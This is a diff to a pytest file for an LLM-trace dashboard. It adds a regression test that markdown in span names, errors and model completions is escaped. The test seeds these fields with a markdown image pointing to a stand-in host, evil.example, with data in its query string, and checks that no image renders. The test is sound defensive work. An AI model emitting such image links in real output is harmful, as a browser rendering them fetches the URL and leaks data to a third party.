@@ -6,6 +6,7 @@ import base64
 import itertools
 import json
 import random
+import time
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
@@ -14,6 +15,7 @@ from urllib.parse import parse_qsl, urlsplit
 import numpy as np
 import pandas as pd
 import pytest
+from markdown_it import MarkdownIt
 from streamlit.dataframe_util import convert_arrow_bytes_to_pandas_df
 from streamlit.testing.v1 import AppTest
 
@@ -21,8 +23,10 @@ import glassline.dashboard.app as app_module
 from examples.demo import dashboard_link
 from glassline.dashboard import ui
 from glassline.dashboard.env import ENV_ALERTS_CONFIG, ENV_DB_URL, ENV_PASSWORD
+from glassline.dashboard.markdown import literal
 from glassline.dashboard.window import calendar_starts
 from glassline.pricing import format_usd
+from glassline.semconv import attributes as attrs
 
 from .conftest import seed_store
 from .seed import NS, Traffic, rag_trace
@@ -141,15 +145,44 @@ def test_traces_page_lists_traces_with_links_and_filters_by_status(
 def test_trace_page_shows_waterfall_error_and_chat_messages(sqlite_url, monkeypatch, traffic):
     at = _open(sqlite_url, monkeypatch, "trace", trace=traffic.error_trace_id)
     text = _text(at)
-    assert at.subheader[0].value == "rag_pipeline"
+    assert at.subheader[0].value == literal("rag_pipeline")  # as sent: markdown escaped
     assert "RateLimitError" in at.error[0].value and "quota exceeded" in at.error[0].value
     roles = [m.name for m in at.get("chat_message")]
     assert roles == ["user", "assistant"]
-    assert "What is our refund policy?" in text and "Refunds are accepted" in text
-    assert "Redacted at ingest: 1 EMAIL_ADDRESS" in text
+    assert literal("What is our refund policy?") in text and "Refunds are accepted" in text
+    assert f"Redacted at ingest: {literal('1 EMAIL_ADDRESS')}" in text
     expected = sum(r.cost_usd or 0 for r in traffic.records if r.trace_id == traffic.error_trace_id)
     assert _metrics(at)["Cost"] == format_usd(expected)
     assert f"trace={traffic.error_trace_id}" in at.code[-1].value
+
+
+def test_telemetry_on_the_trace_and_sessions_pages_is_shown_as_sent(tmp_path, monkeypatch):
+    # Markdown images in a span name, an error or a completion made the browser fetch their
+    # URLs when the trace was opened (Chromium, from outside: 7 fetches on one trace).
+    image = "![x](https://evil.example/p.png?d=order-77)"
+    spans = rag_trace(random.Random(3), "acme", int(time.time()) * NS, user=f"u{image}", fail=True)
+    root, llm = spans[0], spans[-1]
+    root.name, llm.name, llm.session_id = f"rag {image}", f"chat {image}", f"s{image}"
+    llm.events[0].attributes["exception.message"] = f"quota {image}"
+    answer = [{"role": "assistant", "parts": [{"type": "text", "content": f"Sure! {image}"}]}]
+    llm.attributes[attrs.GEN_AI_OUTPUT_MESSAGES] = json.dumps(answer)
+    url = f"sqlite:///{tmp_path / 'hostile.db'}"
+    seed_store(url, Traffic(records=spans))
+    trace = _open(url, monkeypatch, "trace", trace=root.trace_id)
+    people = _open(url, monkeypatch, "people", user=f"u{image}", session=f"s{image}")
+    shown = [
+        e.value
+        for at in (trace, people)
+        for kind in ("markdown", "caption", "error", "subheader")
+        for e in at.get(kind)
+    ]
+    with_image = [v for v in shown if "evil" in v]
+    assert len(with_image) >= 6  # the root and span names, the user, the error, the completion
+    for value in with_image:
+        assert "image" not in {
+            t.type for block in MarkdownIt().parse(value) for t in block.children or []
+        }, value
+        assert literal(image) in value
 
 
 def test_trace_page_explains_an_unknown_trace(sqlite_url, monkeypatch):
